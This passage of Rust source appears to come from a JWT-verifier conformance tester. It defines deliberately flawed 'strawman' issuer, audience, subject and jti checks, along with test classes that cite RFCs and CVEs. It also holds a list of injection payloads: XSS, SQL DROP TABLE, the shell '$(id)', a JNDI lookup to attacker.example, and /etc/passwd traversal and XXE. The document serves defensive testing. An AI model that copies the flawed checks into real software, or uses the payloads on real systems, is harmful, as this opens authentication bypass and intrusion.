    plain.replace("e\u{301}", "\u{e9}").replace("xn--bcher-kva", "b\u{fc}cher")
}

/// A URL as a browser would show it.
fn normalised(url: &str) -> String {
    url.replace(":443", "").replace("/./", "/").trim_end_matches('/').to_owned()
}

/// Whether the pattern, with one `*` or `%`, matches.
fn matches(pattern: &str, text: &str) -> bool {
    pattern.split_once(['*', '%']).map_or(pattern == text, |(start, end)| {
        text.starts_with(start) && text.ends_with(end.trim_start_matches(['*', '%']))
    })
}

/// Everything with a name that all objects of the language have counts as known.
fn is_inherited(name: &str) -> bool {
    INHERITED.iter().any(|(_, inherited)| *inherited == name)
}

/// The text as it can be put into a page.
fn escape_html(value: &mut Json) {
    match value {
        Json::String(text) => *text = text.replace('<', "&lt;").replace('>', "&gt;"),
        Json::Array(values) => values.iter_mut().for_each(escape_html),
        Json::Object(members) => members.iter_mut().for_each(|(_, value)| escape_html(value)),
        _ => {}
    }
}

/// Walks the chain of actors and trusts each of them to be an object.
fn follow_actors(claims: &Json) {
    let mut actor = claims.member("act");
    while let Some(value) = actor {
        assert!(matches!(value, Json::Object(_)), "an actor is an object");
        actor = value.member("act");
    }
}

static IGNORES_ISS: Strawman = Strawman {
    name: "iss-ignored",
    flaw: "never compares iss with the issuer that it was told to expect",
    mend: "Compare iss with the expected issuers whenever any are configured, and refuse what is not among them.",
    bends: &[(Rule::Issuer, skip)],
};

static CHECKS_ISS_IF_PRESENT: Strawman = Strawman {
    name: "iss-optional",
    flaw: "compares iss only where the token has one",
    mend: "Where an issuer is expected, refuse a token without iss.",
    bends: &[(Rule::Issuer, |reading| match reading.payload.member("iss") {
        Some(_) => rules::issuer(reading),
        None => Ok(()),
    })],
};

static CHECKS_ISS_IF_STRING: Strawman = Strawman {
    name: "iss-of-other-type-unchecked",
    flaw: "takes an iss that is no string for one that is absent, and lets that pass",
    mend: "Refuse an iss that is not a string; where an issuer is expected, refuse a token without one.",
    bends: &[
        (Rule::ClaimTypes, skip),
        (Rule::Issuer, |reading| match reading.payload.member("iss") {
            Some(Json::String(_)) => rules::issuer(reading),
            _ => Ok(()),
        }),
    ],
};

static FINDS_ISS_INSIDE: Strawman = Strawman {
    name: "iss-container",
    flaw: "looks for the expected issuer anywhere inside iss, be it an array or an object",
    mend: "Require iss to be a string before comparing it. Only aud may be an array.",
    bends: &[
        (Rule::ClaimTypes, skip),
        (Rule::Issuer, |reading| {
            let iss = reading.payload.member("iss");
            let held = iss.is_some_and(|iss| reading.policy.issuer.iter().any(|own| holds(iss, own)));
            rules::check(held || reading.policy.issuer.is_empty(), Reason::Issuer)
        }),
    ],
};

static ISS_AS_PART: Strawman = Strawman {
    name: "iss-substring",
    flaw: "asks whether the expected issuer contains iss, as a membership test on a string does",
    mend: "Compare for equality. Make a list of a single configured issuer before asking whether iss is in it.",
    bends: &[(Rule::Issuer, |reading| issuer_by(reading, |own, iss| own.contains(iss)))],
};

static ISS_AS_PATTERN: Strawman = Strawman {
    name: "iss-unanchored",
    flaw: "asks whether iss contains the expected issuer, as an unanchored pattern does",
    mend: "Compare for equality; anchor a pattern at both ends of the text and escape what is literal in it.",
    bends: &[(Rule::Issuer, |reading| issuer_by(reading, |own, iss| iss.contains(own)))],
};

static ISS_WITHOUT_CASE: Strawman = Strawman {
    name: "iss-without-case",
    flaw: "compares issuers without regard to case",
    mend: "Compare iss octet by octet; StringOrURI values are case-sensitive, host names in them included.",
    bends: &[(Rule::Issuer, |reading| issuer_by(reading, str::eq_ignore_ascii_case))],
};

static ISS_AS_URL: Strawman = Strawman {
    name: "iss-normalised",
    flaw: "normalises issuers as URLs before comparing them",
    mend: "Compare iss as it stands; no slash, port, dot segment or percent sign is to be added, removed or decoded.",
    bends: &[(Rule::Issuer, |reading| issuer_by(reading, |own, iss| normalised(own) == normalised(iss)))],
};

static ISS_FOLDED: Strawman = Strawman {
    name: "iss-folded",
    flaw: "applies Unicode or host-name normalisation to issuers before comparing them",
    mend: "Compare iss code point by code point after JSON unescaping, and apply no normalisation to either side.",
    bends: &[(Rule::Issuer, |reading| issuer_by(reading, |own, iss| folded(own) == folded(iss)))],
};

static ISS_BY_LINE: Strawman = Strawman {
    name: "iss-by-line",
    flaw: "matches the expected issuer against a line of iss, or against what stands before a NUL",
    mend: "Compare iss with its length; in a pattern use anchors for the ends of the text, not those for lines.",
    bends: &[(Rule::Issuer, |reading| issuer_by(reading, |own, iss| iss.split(['\0', '\n']).any(|line| line == own)))],
};

static ISS_INHERITED: Strawman = Strawman {
    name: "iss-inherited",
    flaw: "looks iss up in a map of issuers that inherits the names of every object",
    mend: "Keep issuers in a map without a prototype, or ask for own members only.",
    bends: &[(Rule::Issuer, |reading| issuer_by(reading, |own, iss| own == iss || is_inherited(iss)))],
};

static REMEMBERS_LAST_MATCH: Strawman = Strawman {
    name: "iss-remembered",
    flaw: "goes on matching where its last match ended, and so refuses every second token",
    mend: "Keep no state between two verifications; a pattern object with a global or sticky flag does.",
    bends: &[(Rule::Issuer, |reading| {
        static AT_END: AtomicBool = AtomicBool::new(false);
        rules::check(!AT_END.fetch_xor(true, Ordering::Relaxed), Reason::Issuer)?;
        rules::issuer(reading)
    })],
};

static WANTS_URL_ISS: Strawman = Strawman {
    name: "iss-always-wanted",
    flaw: "insists on an issuer that is a URL although it was told to expect none",
    mend: "Leave iss to the application where no issuer is configured; it is optional and may be any string.",
    bends: &[(Rule::Issuer, |reading| {
        let iss = reading.payload.member("iss").and_then(Json::as_str);
        rules::check(iss.is_some_and(|iss| iss.starts_with("https://")), Reason::Issuer)?;
        rules::issuer(reading)
    })],
};

static IGNORES_AUD: Strawman = Strawman {
    name: "aud-ignored",
    flaw: "never compares aud with its own names",
    mend: "Compare aud with the configured audiences, and refuse the token where none of them is in it.",
    bends: &[(Rule::Audience, skip)],
};

static CHECKS_AUD_IF_PRESENT: Strawman = Strawman {
    name: "aud-optional",
    flaw: "compares aud only where the token has one",
    mend: "Where an audience is configured, refuse a token without aud.",
    bends: &[(Rule::Audience, |reading| match reading.payload.member("aud") {
        Some(_) => rules::audience(reading),
        None => Ok(()),
    })],
};

static EMPTY_AUD_PASSES: Strawman = Strawman {
    name: "aud-empty-passes",
    flaw: "takes an empty audience, in the token or in its own configuration, for nothing to check",
    mend: "Tell an empty audience from an absent one: in the token refuse it, in the configuration refuse to start.",
    bends: &[(Rule::Audience, |reading| {
        let empty = |value: &Json| value.as_str() == Some("");
        let nothing_named = match reading.payload.member("aud") {
            Some(Json::Array(values)) => values.iter().all(empty),
            other => other.is_some_and(empty),
        };
        let nothing_expected = reading.policy.audience.iter().all(String::is_empty);
        if nothing_named || nothing_expected { Ok(()) } else { rules::audience(reading) }
    })],
};

static CHECKS_AUD_IF_STRING: Strawman = Strawman {
    name: "aud-of-other-type-unchecked",
    flaw: "takes an aud that is neither a string nor an array for one that is absent, and lets that pass",
    mend: "Refuse an aud of another type; where an audience is configured, refuse a token without one.",
    bends: &[
        (Rule::ClaimTypes, skip),
        (Rule::Audience, |reading| match reading.payload.member("aud") {
            Some(Json::String(_) | Json::Array(_)) => rules::audience(reading),
            _ => Ok(()),
        }),
    ],
};

static SKIPS_ODD_AUDIENCES: Strawman = Strawman {
    name: "aud-odd-members-skipped",
    flaw: "passes over members of aud that are no strings",
    mend: "Refuse an aud array with a member that is not a string; do not search inside members.",
    bends: &[(Rule::ClaimTypes, skip), (Rule::Audience, |reading| audience_by(reading, |own, given| own == given))],
};

static FINDS_AUD_INSIDE: Strawman = Strawman {
    name: "aud-container",
    flaw: "looks for its own name anywhere inside aud, names of members included",
    mend: "Require aud to be a string or an array of strings before comparing.",
    bends: &[
        (Rule::ClaimTypes, skip),
        (Rule::Audience, |reading| {
            let aud = reading.payload.member("aud");
            let held = aud.is_some_and(|aud| reading.policy.audience.iter().any(|own| holds(aud, own)));
            rules::check(held || reading.policy.audience.is_empty(), Reason::Audience)
        }),
    ],
};

static AUD_AS_PART: Strawman = Strawman {
    name: "aud-substring",
    flaw: "asks whether aud contains its own name, or the other way round",
    mend: "Compare each audience for equality. A string is one audience, not a list and not a pattern.",
    bends: &[(Rule::Audience, |reading| audience_by(reading, |own, given| own.contains(given) || given.contains(own)))],
};

static AUD_NORMALISED: Strawman = Strawman {
    name: "aud-normalised",
    flaw: "normalises audiences before comparing them: case, slashes, Unicode",
    mend: "Compare aud as it stands; StringOrURI values are case-sensitive and not to be canonicalised.",
    bends: &[(Rule::Audience, |reading| {
        let plain = |text: &str| normalised(&folded(text)).to_lowercase();
        audience_by(reading, |own, given| plain(own) == plain(given))
    })],
};

static AUD_AS_WILDCARD: Strawman = Strawman {
    name: "aud-wildcard",
    flaw: "takes the token's aud for a pattern that its own name may match",
    mend: "Compare aud for equality; nothing in a token is a pattern.",
    bends: &[(Rule::Audience, |reading| audience_by(reading, |own, given| matches(given, own)))],
};

static SUB_OPTIONAL: Strawman = Strawman {
    name: "sub-optional",
    flaw: "accepts a token without the subject that it was told to require",
    mend: "Where sub is required, or a subject expected, refuse a token without it.",
    bends: &[
        (Rule::Required, skip),
        (Rule::Subject, |reading| match reading.payload.member("sub") {
            Some(_) => rules::subject(reading),
            None => Ok(()),
        }),
    ],
};

static TYPES_UNCHECKED: Strawman = Strawman {
    name: "claim-types-unchecked",
    flaw: "hands on registered claims of any type",
    mend: "Refuse a token whose sub or jti is not a string, before the application can convert it to one.",
    bends: &[(Rule::ClaimTypes, skip)],
};

static SUB_FOLDED: Strawman = Strawman {
    name: "sub-folded",
    flaw: "takes subjects for equal that a database would: without case, outer spaces, or what stands after a NUL",
    mend: "Compare sub octet by octet, and look accounts up under a binary collation.",
    bends: &[(Rule::Subject, |reading| {
        let plain = |text: &str| folded(text).split('\0').next().unwrap_or_default().trim().to_lowercase();
        let Some(wanted) = &reading.policy.subject else { return Ok(()) };
        let sub = reading.payload.member("sub").and_then(Json::as_str);
        rules::check(sub.is_some_and(|sub| plain(sub) == plain(wanted)), Reason::Subject)
    })],
};

static JTI_UNCHECKED: Strawman = Strawman {
    name: "jti-unchecked",
    flaw: "accepts a token without a jti, or with any value in its place, although it was told to require one",
    mend: "Where jti is required, refuse a token whose jti is absent or is not a string; it is what a replay is told \
           by.",
    bends: &[(Rule::ClaimTypes, skip), (Rule::Required, skip)],
};

static REQUIRED_IGNORED: Strawman = Strawman {
    name: "required-ignored",
    flaw: "checks claims where they are there, and never whether they are",
    mend: "Check that every claim the application requires is present before checking what it says.",
    bends: &[(Rule::Required, skip)],
};

static NULL_IS_PRESENT: Strawman = Strawman {
    name: "required-null-passes",
    flaw: "takes a required claim that is null for one that is there, and then for one that need not be checked",
    mend: "Count a claim that is null as absent.",
    bends: &[
        (Rule::ClaimTypes, skip),
        (Rule::Required, |reading| {
            let given = |name: &String| reading.payload.member(name).is_some();
            rules::check(reading.policy.required_claims.iter().all(given), Reason::MissingClaim)
        }),
    ],
};

static INHERITED_IS_PRESENT: Strawman = Strawman {
    name: "required-inherited-passes",
    flaw: "asks an object for the required claim and is answered by its prototype",
    mend: "Ask for own members only.",
    bends: &[(Rule::Required, |reading| {
        if reading.policy.required_claims.iter().all(|name| is_inherited(name)) {
            Ok(())
        } else {
            rules::required(reading)
        }
    })],
};

static CLAIMS_ESCAPED: Strawman = Strawman {
    name: "claims-escaped",
    flaw: "changes the text of claims on their way to the application",
    mend: "Hand claims on as they were signed. Escaping belongs where a text is put into a page, a query or a log.",
    bends: &[(Rule::Payload, |reading| {
        rules::payload(reading)?;
        escape_html(&mut reading.payload);
        Ok(())
    })],
};

static ACTORS_UNWRAPPED: Strawman = Strawman {
    name: "actors-unwrapped",
    flaw: "follows a chain of actors and falls over where one is not an object",
    mend: "Bound the depth of act, and return an error where an actor is not an object.",
    bends: &[(Rule::Payload, |reading| {
        rules::payload(reading)?;
        follow_actors(&reading.payload);
        Ok(())
    })],
};

static EVENT_IS_SESSION: Strawman = Strawman {
    name: "event-is-session",
    flaw: "takes whatever its issuer signed for a session token",
    mend: "Require the typ and the claims of the one kind of token that is meant.",
    bends: &[(Rule::Kind, skip), (Rule::Required, skip)],
};

const AS_IS: &[Spelling] = &[("", quote)];
const RAW_AND_ESCAPED: &[Spelling] = &[("-raw", quote), ("-escaped", quote_escaped)];

const SCALARS: &[Row] =
    &[("null", "null"), ("zero", "0"), ("one", "1"), ("fraction", "1.5"), ("true", "true"), ("false", "false")];

const STRUCTURES: &[Row] =
    &[("empty-array", "[]"), ("array", r#"["user-1"]"#), ("empty-object", "{}"), ("object", r#"{"id":"user-1"}"#)];

/// A variant and the name of a claim that can be required.
const REQUIRED: &[Row] = &[
    ("exp", "exp"),
    ("nbf", "nbf"),
    ("iat", "iat"),
    ("iss", "iss"),
    ("sub", "sub"),
    ("aud", "aud"),
    ("jti", "jti"),
    ("scope", "scope"),
    ("client-id", "client_id"),
    ("uri", "https://claims.example/role"),
];

/// Names that objects have without being given them.
const INHERITED: &[Row] = &[
    ("constructor", "constructor"),
    ("proto", "__proto__"),
    ("to-string", "toString"),
    ("value-of", "valueOf"),
    ("has-own-property", "hasOwnProperty"),
    ("length", "length"),
    ("class", "__class__"),
    ("dict", "__dict__"),
    ("keys", "keys"),
    ("hash-code", "hashCode"),
];

const INJECTIONS: &[Row] = &[
    ("page", "<script>alert(1)</script>"),
    ("sql", "' OR '1'='1' --"),
    ("template", "{{7*7}}"),
    ("directory-query", "*)(uid=*))(|(uid=*"),
    ("shell", "$(id)`id`|id;id"),
    ("sql-statement", "1'); DROP TABLE users; --"),
    ("attribute", "\"><img src=x onerror=alert(1)>"),
    ("lookup", "${jndi:ldap://attacker.example/a}"),
    ("expression", "${7*7}#{7*7}<%= 7*7 %>"),
    ("path", "../../../../etc/passwd"),
    ("format", "%s%n%x%p"),
    ("percent", "a%00b%20c+d"),
    ("log-lines", "admin\r\nSet-Cookie: sid=1"),
    ("query-operator", "{\"$ne\":null}"),
    ("entity", "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>"),
    ("html-entity", "&lt;b&gt;&amp;"),
    ("serialised-object", "O:8:\"stdClass\":0:{}"),
    ("backslashes", "\\\\server\\share\\u0041"),
    ("direction-override", "user\u{202e}nimda"),
    ("beyond-the-plane", "\u{1d49c}\u{1f511}"),
];

const SECURITY_EVENT: &str = concat!(
    r#"{"https://schemas.openid.net/secevent/risc/event-type/account-disabled":"#,
    r#"{"subject":{"format":"iss_sub","iss":"https://issuer.example","sub":"user-1"}}}"#
);
const LOGOUT: &str = r#"{"http://schemas.openid.net/event/backchannel-logout":{}}"#;

/// The rows.
pub(super) const FAMILY: Family = Family {
    id: "claims",
    title: "Issuer, audience, subject and other claims",
    classes: &[
        Class {
            id: "iss-wrong",
            title: "A token of another issuer was accepted.",
            construction: "iss is another issuer, the verifier's own name or a plain word; genuinely signed by the \
                           trusted key",
            says: Says::MustReject(Reason::Issuer),
            severity: Severity::Critical,
            references: &["RFC 7519 §4.1.1", "RFC 8725 §3.8"],
            cwe: Some(346),
            make: Make::Cases { on: on::claims, build: issuer_wrong, strawman: &IGNORES_ISS },
        },
        Class {
            id: "iss-missing",
            title: "A token without an issuer was accepted although one is expected.",
            construction: "no iss, or one under another name, in capitals, or in the header only",
            says: Says::MustReject(Reason::Issuer),
            severity: Severity::High,
            references: &["RFC 8725 §3.8", "RFC 9068 §4"],
            cwe: Some(346),
            make: Make::Cases { on: on::claims, build: issuer_missing, strawman: &CHECKS_ISS_IF_PRESENT },
        },
        Class {
            id: "iss-null-number-bool",
            title: "A token whose iss is null, a number or a boolean was accepted although an issuer is expected.",
            construction: "iss is null, 0, 1, 1.5, true or false",
            says: Says::MustReject(Reason::MissingClaim),
            severity: Severity::High,
            references: &["RFC 7519 §4.1.1", "RFC 8725 §3.8"],
            cwe: Some(843),
            make: Make::Cases { on: on::claims, build: issuer_scalar, strawman: &CHECKS_ISS_IF_STRING },
        },
        Class {
            id: "iss-array-containing",
            title: "A token whose iss is an array was accepted.",
            construction: "iss is an array that holds the expected issuer, alone, beside another one or nested, or is \
                           empty",
            says: Says::MustReject(Reason::MissingClaim),
            severity: Severity::High,
            references: &["RFC 7519 §4.1.1", "CVE-2025-30144"],
            cwe: Some(843),
            make: Make::Cases { on: on::claims, build: issuer_array, strawman: &FINDS_ISS_INSIDE },
        },
        Class {
            id: "iss-object",
            title: "A token whose iss is an object was accepted.",
            construction: "iss is an object with the expected issuer as a member's value or name, or with a query \
                           operator",
            says: Says::MustReject(Reason::MissingClaim),
            severity: Severity::High,
            references: &["RFC 7519 §4.1.1"],
            cwe: Some(843),
            make: Make::Cases { on: on::claims, build: issuer_object, strawman: &FINDS_ISS_INSIDE },
        },
        Class {
            id: "iss-substring",
            title: "A token whose iss is only a part of the expected issuer was accepted.",
            construction: "iss is the expected issuer without its last or first letter, its host, its first letter, \
                           or empty",
            says: Says::MustReject(Reason::Issuer),
            severity: Severity::High,
            references: &["RFC 7519 §4.1.1", "CVE-2024-53861"],
            cwe: Some(697),
            make: Make::Cases { on: on::claims, build: issuer_substring, strawman: &ISS_AS_PART },
        },
        Class {
            id: "iss-superstring",
            title: "A token whose iss is longer than the expected issuer and contains it was accepted.",
            construction: "iss is the expected issuer with text before or after it, two issuers joined, or a text \
                           that only a pattern made of the issuer matches",
            says: Says::MustReject(Reason::Issuer),
            severity: Severity::High,
            references: &["RFC 7519 §4.1.1", "RFC 7519 §2"],
            cwe: Some(777),
            make: Make::Cases { on: on::claims, build: issuer_superstring, strawman: &ISS_AS_PATTERN },
        },
        Class {
            id: "iss-case",
            title: "A token whose iss differs from the expected issuer in upper and lower case was accepted.",
            construction: "iss is the expected issuer with its scheme, host or path in another case",
            says: Says::MustReject(Reason::Issuer),
            severity: Severity::Medium,
            references: &["RFC 7519 §4.1.1", "RFC 7519 §2"],
            cwe: Some(178),
            make: Make::Cases { on: on::claims, build: issuer_case, strawman: &ISS_WITHOUT_CASE },
        },
        Class {
            id: "iss-trailing-slash",
            title: "A token whose iss is another spelling of the expected issuer's URL was accepted.",
            construction: "iss with or without a trailing slash, the default port, a dot segment, a percent-encoded \
                           letter or slash, an empty query or fragment",
            says: Says::MustReject(Reason::Issuer),
            severity: Severity::Medium,
            references: &["RFC 7519 §2", "OpenID Connect Core §3.1.3.7"],
            cwe: Some(20),
            make: Make::Cases { on: on::claims, build: issuer_url, strawman: &ISS_AS_URL },
        },
        Class {
            id: "iss-unicode",
            title: "A token whose iss only looks like the expected issuer was accepted.",
            construction: "iss in another Unicode normal form, as an internationalised host name in its other form, \
                           with look-alike or invisible characters; each as UTF-8 and in JSON escapes",
            says: Says::MustReject(Reason::Issuer),
            severity: Severity::Medium,
            references: &["RFC 7519 §7.3", "RFC 7519 §2", "RFC 7515 §5.3"],
            cwe: Some(176),
            make: Make::Cases { on: on::claims, build: issuer_unicode, strawman: &ISS_FOLDED },
        },
        Class {
            id: "iss-nul-newline",
            title: "A token whose iss is the expected issuer beside a NUL or a line break was accepted.",
            construction: "iss is the expected issuer with NUL, a line break or a tab and other text before or after \
                           it",
            says: Says::MustReject(Reason::Issuer),
            severity: Severity::High,
            references: &["RFC 7519 §4.1.1", "RFC 7519 §2"],
            cwe: Some(158),
            make: Make::Cases { on: on::claims, build: issuer_control_characters, strawman: &ISS_BY_LINE },
        },
        Class {
            id: "iss-prototype",
            title: "A token whose iss is a name that every object has was accepted.",
            construction: "iss is __proto__, constructor, toString and the like, before one and before two expected \
                           issuers",
            says: Says::MustReject(Reason::Issuer),
            severity: Severity::High,
            references: &["RFC 8725 §3.8", "RFC 7519 §4.1.1"],
            cwe: Some(1321),
            make: Make::Cases { on: on::claims, build: issuer_prototype, strawman: &ISS_INHERITED },
        },
        Class {
            id: "iss-key-mismatch",
            title: "A token that names one trusted issuer and is signed by another's key was accepted.",
            construction: "iss is issuer A, the signature is made with the key that issuer B publishes",
            says: Says::MustReject(Reason::Key),
            severity: Severity::Critical,
            references: &["RFC 8725 §3.8"],
            cwe: Some(346),
            make: Make::Live { by: "assay run --service" },
        },
        Class {
            id: "iss-stateful-regex",
            title: "A valid token was refused when it was shown again.",
            construction: "the same valid token three times running, before one and before two expected issuers, \
                           which the verifier may keep as patterns",
            says: Says::MustAccept,
            severity: Severity::Medium,
            references: &["RFC 7519 §4.1.1", "CVE-2026-35040", "GHSA-3j8v-cgw4-2g6q"],
            cwe: Some(440),
            make: Make::Cases { on: on_one_with_claims, build: issuer_again, strawman: &REMEMBERS_LAST_MATCH },
        },
        Class {
            id: "iss-not-validated-default",
            title: "A valid token was refused for its issuer although the verifier was told to expect none.",
            construction: "no issuer configured; iss is a URL, a plain word or a URN, or absent",
            says: Says::ShouldAccept,
            severity: Severity::Low,
            references: &["RFC 7519 §4.1.1"],
            cwe: Some(346),
            make: Make::Cases { on: on::library_default, build: issuer_unasked, strawman: &WANTS_URL_ISS },
        },
        Class {
            id: "aud-wrong",
            title: "A token for another audience was accepted.",
            construction: "aud is another audience, or an array of others; genuinely signed by the trusted key",
            says: Says::MustReject(Reason::Audience),
            severity: Severity::Critical,
            references: &["RFC 7519 §4.1.3", "RFC 8725 §3.9"],
            cwe: Some(345),
            make: Make::Cases { on: on::claims, build: audience_wrong, strawman: &IGNORES_AUD },
        },
        Class {
            id: "aud-missing",
            title: "A token without an audience was accepted although one is expected.",
            construction: "no aud, or one under another name, in capitals, or in the header only",
            says: Says::MustReject(Reason::Audience),
            severity: Severity::High,
            references: &["RFC 8725 §3.9", "draft-ietf-oauth-rfc8725bis §3.9", "CVE-2024-5798"],
            cwe: Some(345),
            make: Make::Cases { on: on::claims, build: audience_missing, strawman: &CHECKS_AUD_IF_PRESENT },
        },
        Class {
            id: "aud-empty-array",
            title: "A token whose aud is an empty array was accepted although an audience is expected.",
            construction: "aud is an array without members",
            says: Says::MustReject(Reason::Audience),
            severity: Severity::High,
            references: &["RFC 7519 §4.1.3", "CVE-2020-26160"],
            cwe: Some(843),
            make: Make::Cases { on: on::claims, build: audience_empty_array, strawman: &EMPTY_AUD_PASSES },
        },
        Class {
            id: "aud-empty-string",
            title: "A token was accepted because its audience, or the one that the verifier expects, is empty.",
            construction: "aud is the empty string, a space, or an array of empty strings; or the expected audience \
                           is the empty string and aud is another one, empty or absent",
            says: Says::MustReject(Reason::Audience),
            severity: Severity::High,
            references: &["RFC 7519 §4.1.3", "CVE-2020-26160"],
            cwe: Some(843),
            make: Make::Cases { on: on::claims, build: audience_empty_string, strawman: &EMPTY_AUD_PASSES },
        },
        Class {
            id: "aud-null-number-bool",
            title: "A token whose aud is null, a number or a boolean was accepted although an audience is expected.",
            construction: "aud is null, 0, 1, 1.5, true or false",
            says: Says::MustReject(Reason::MissingClaim),
            severity: Severity::High,
            references: &["RFC 7519 §4.1.3"],
            cwe: Some(843),
            make: Make::Cases { on: on::claims, build: audience_scalar, strawman: &CHECKS_AUD_IF_STRING },
        },
        Class {
            id: "aud-array-mixed-types",
            title: "A token whose aud is an array with members that are no strings was accepted.",
            construction: "aud is an array of the expected audience beside a number, null, a boolean, an object or an \
                           array, or of an array or object that holds it",
            says: Says::ShouldReject(Reason::MissingClaim),
            severity: Severity::Medium,
            references: &["RFC 7519 §4.1.3"],
            cwe: Some(843),
            make: Make::Cases { on: on::claims, build: audience_mixed, strawman: &SKIPS_ODD_AUDIENCES },
        },
        Class {
            id: "aud-object",
            title: "A token whose aud is an object was accepted.",
            construction: "aud is an object with the expected audience as a member's value or name, or with a query \
                           operator",
            says: Says::MustReject(Reason::MissingClaim),
            severity: Severity::High,
            references: &["RFC 7519 §4.1.3"],
            cwe: Some(843),
            make: Make::Cases { on: on::claims, build: audience_object, strawman: &FINDS_AUD_INSIDE },
        },
        Class {
            id: "aud-substring-superstring",
            title: "A token whose aud only contains the expected audience, or is contained in it, was accepted.",
            construction: "aud is a part of the expected audience, a longer text around it, a list joined by commas \
                           or spaces, or an array of its pieces",
            says: Says::MustReject(Reason::Audience),
            severity: Severity::High,
            references: &["RFC 7519 §4.1.3", "RFC 7519 §2"],
            cwe: Some(697),
            make: Make::Cases { on: on::claims, build: audience_part, strawman: &AUD_AS_PART },
        },
        Class {
            id: "aud-case-slash-unicode",
            title: "A token whose aud is another spelling of the expected audience was accepted.",
            construction: "aud in another case, with or without a trailing slash, the default port, in another \
                           Unicode normal form, with look-alike or invisible characters; the last as UTF-8 and in \
                           JSON escapes",
            says: Says::MustReject(Reason::Audience),
            severity: Severity::Medium,
            references: &["RFC 7519 §4.1.3", "RFC 7519 §2"],
            cwe: Some(178),
            make: Make::Cases { on: on::claims, build: audience_near, strawman: &AUD_NORMALISED },
        },
        Class {
            id: "aud-wildcard",
            title: "A token whose aud is a wildcard was accepted.",
            construction: "aud is a star, a percent sign, a host with either in it, or a regular expression",
            says: Says::MustReject(Reason::Audience),
            severity: Severity::Medium,
            references: &["RFC 7519 §4.1.3", "RFC 7519 §2"],
            cwe: Some(183),
            make: Make::Cases { on: on::claims, build: audience_wildcard, strawman: &AUD_AS_WILDCARD },
        },
        Class {
            id: "aud-multiple-untrusted",
            title: "An ID token that is also for an audience which the client does not trust was accepted.",
            construction: "aud is an array of the client and a stranger, without azp",
            says: Says::MustReject(Reason::Audience),
            severity: Severity::Medium,
            references: &["OpenID Connect Core §3.1.3.7"],
            cwe: Some(345),
            make: Make::Waits {
                area: Area::OpenIdConnect,
                because: "A JWT may be for several audiences; only an OpenID Connect client distrusts the others, and \
                          a policy does not say that it is one.",
            },
        },
        Class {
            id: "aud-not-validated-default",
            title: "A token with an audience made a verifier that was told none fall over, or meant two things.",
            construction: "no audience configured; aud is another's name, an array of others, or an empty array",
            says: Says::Either(
                "a verifier that was told no audience of its own cannot find itself in aud (RFC 7519 §4.1.3)",
            ),
            severity: Severity::Medium,
            references: &["RFC 7519 §4.1.3"],
            cwe: Some(345),
            make: Make::Cases { on: on::library_default, build: audience_unasked, strawman: &PANICS },
        },
        Class {
            id: "azp-mismatch",
            title: "An ID token whose azp is not the client was accepted.",
            construction: "azp is another client, or absent with several audiences",
            says: Says::ShouldReject(Reason::Audience),
            severity: Severity::Medium,
            references: &["OpenID Connect Core §3.1.3.7"],
            cwe: Some(345),
            make: Make::Waits {
                area: Area::OpenIdConnect,
                because: "azp is compared with the identifier of the client, which a policy does not hold.",
            },
        },
        Class {
            id: "sub-missing-required",
            title: "A token without a subject was accepted although one is required.",
            construction: "no sub, or one under another name, in capitals, or in the header only; sub is required, or \
                           a subject expected",
            says: Says::MustReject(Reason::MissingClaim),
            severity: Severity::High,
            references: &["RFC 9068 §2.2", "OpenID Connect Core §2", "RFC 7519 §4"],
            cwe: Some(287),
            make: Make::Cases { on: on::claims, build: subject_missing, strawman: &SUB_OPTIONAL },
        },
        Class {
            id: "sub-type",
            title: "A token whose sub is not a string was accepted.",
            construction: "sub is null, a number, a boolean, an array or an object",
            says: Says::ShouldReject(Reason::MissingClaim),
            severity: Severity::Medium,
            references: &["RFC 7519 §4.1.2"],
            cwe: Some(843),
            make: Make::Cases { on: on::common, build: subject_type, strawman: &TYPES_UNCHECKED },
        },
        Class {
            id: "sub-empty",
            title: "A token with an empty subject made a verifier that requires one fall over, or meant two things.",
            construction: "sub is the empty string, and sub is required",
            says: Says::Either("whether an empty string counts as a claim that is there is the application's choice"),
            severity: Severity::Medium,
            references: &["RFC 7519 §4.1.2", "RFC 7519 §4"],
            cwe: Some(20),
            make: Make::Cases { on: on::claims, build: subject_empty, strawman: &PANICS },
        },
        Class {
            id: "sub-collision",
            title: "A token whose sub only resembles the expected subject was accepted.",
            construction: "sub differs from the expected one by case, a space, a line break, NUL, Unicode normal \
                           form, look-alike or invisible characters; what is not ASCII as UTF-8 and in JSON escapes",
            says: Says::MustReject(Reason::Subject),
            severity: Severity::High,
            references: &["RFC 7519 §4.1.2", "RFC 7519 §2"],
            cwe: Some(178),
            make: Make::Cases { on: on::claims, build: subject_near, strawman: &SUB_FOLDED },
        },
        Class {
            id: "sub-client-id-collision",
            title: "A client's own token whose sub equals a user's was accepted as that user's.",
            construction: "a token from the client credentials grant whose sub is the identifier of a user",
            says: Says::MustReject(Reason::Subject),
            severity: Severity::High,
            references: &["RFC 9700 §4.15", "draft-ietf-oauth-rfc8725bis §3.8"],
            cwe: Some(863),
            make: Make::Waits {
                area: Area::LiveService,
                because: "The issuer alone keeps the names of clients and users apart; who asks cannot register a client.",
            },
        },
        Class {
            id: "jti-replay",
            title: "A token that may be used once was accepted twice.",
            construction: "the same jti presented twice to a verifier that accepts each only once",
            says: Says::MustReject(Reason::Other),
            severity: Severity::High,
            references: &["RFC 7519 §4.1.7", "RFC 9449 §11.1", "RFC 7523 §3"],
            cwe: Some(294),
            make: Make::Live { by: "assay sessions --service" },
        },
        Class {
            id: "jti-missing-or-type",
            title: "A token without a usable jti was accepted although one is required.",
            construction: "no jti, or null, or of another type than string, and jti is required",
            says: Says::MustReject(Reason::MissingClaim),
            severity: Severity::Medium,
            references: &["RFC 7519 §4.1.7", "RFC 7519 §4"],
            cwe: Some(294),
            make: Make::Cases { on: on::claims, build: id_missing_or_typed, strawman: &JTI_UNCHECKED },
        },
        Class {
            id: "jti-recorded-before-verify",
            title: "A forged token with a victim's jti made the victim's own token be refused.",
            construction: "a token with a wrong signature and the jti of a valid one, shown before it",
            says: Says::MustAccept,
            severity: Severity::Medium,
            references: &["RFC 7519 §4.1.7", "RFC 7515 §5.2"],
            cwe: Some(696),
            make: Make::Live { by: "assay sessions --service" },
        },
        Class {
            id: "nonce-missing-wrong",
            title: "An ID token without the nonce of its request was accepted.",
            construction: "nonce absent, different, an array or null",
            says: Says::MustReject(Reason::Other),
            severity: Severity::High,
            references: &["OpenID Connect Core §3.1.3.7"],
            cwe: Some(294),
            make: Make::Waits {
                area: Area::OpenIdConnect,
